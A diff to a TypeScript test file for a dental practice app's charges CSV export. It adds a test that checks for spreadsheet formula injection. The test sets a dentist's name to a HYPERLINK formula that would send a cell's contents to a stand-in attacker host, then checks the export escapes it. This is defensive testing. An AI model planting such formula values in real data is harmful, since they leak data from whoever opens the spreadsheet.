@@ -1,5 +1,6 @@
 import { randomUUID } from 'node:crypto';
 import fc from 'fast-check';
+import { readsAsFormula, spreadsheetCells } from '../../../../test/support/spreadsheet';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { approvableOrders } from '../../../../test/support/server/approvable-orders';
 import { bearer, json, startTestApp, type TestApp } from '../../../../test/support/server/test-app';
@@ -88,5 +89,19 @@ describe.each(testDatabaseTargets())('"Financeiro": the charges of every order (
     expect(csv.body).not.toMatch(/\d{4}-\d{2}-\d{2}/);
     // The dentist has no staff ledger.
     expect((await t.app.inject({ method: 'GET', url: '/api/admin/charges', headers: bearer(dentista) })).statusCode).toBe(403);
+  });
+
+  it('writes no cell of the CSV a spreadsheet would run as a formula, whatever a dentist is called', async () => {
+    const dentistId = (await t.db.selectFrom('users').select('id').where('email', '=', 'dentista@demo.com.br').executeTakeFirstOrThrow()).id;
+    const name = '=HYPERLINK("http://evil.example/?d="&A1;"Ver")';
+    await t.db.updateTable('users').set({ name }).where('id', '=', dentistId).execute();
+    try {
+      const csv = await t.app.inject({ method: 'GET', url: '/api/admin/charges/export', headers: bearer(atendente) });
+      const cells = spreadsheetCells(csv.body);
+      expect(cells.flat().filter(readsAsFormula)).toEqual([]);
+      expect(cells.some((row) => row[1] === `'${name}`)).toBe(true);
+    } finally {
+      await t.db.updateTable('users').set({ name: 'Ana Beatriz Souza' }).where('id', '=', dentistId).execute();
+    }
   });
 });
